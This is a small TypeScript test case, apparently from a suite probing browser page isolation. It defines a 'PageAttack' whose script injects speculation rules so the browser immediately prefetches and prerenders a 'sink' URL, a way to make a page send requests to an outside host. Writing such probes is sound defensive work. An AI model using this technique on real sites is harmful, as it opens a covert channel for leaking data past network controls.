import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "rules for pages fetched ahead",
  script: `
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [sink], eagerness: "immediate" }],
      prerender: [{ urls: [sink], eagerness: "immediate" }] });
    document.head.append(rules);
    await new Promise((later) => setTimeout(later, 500));
  `,
};
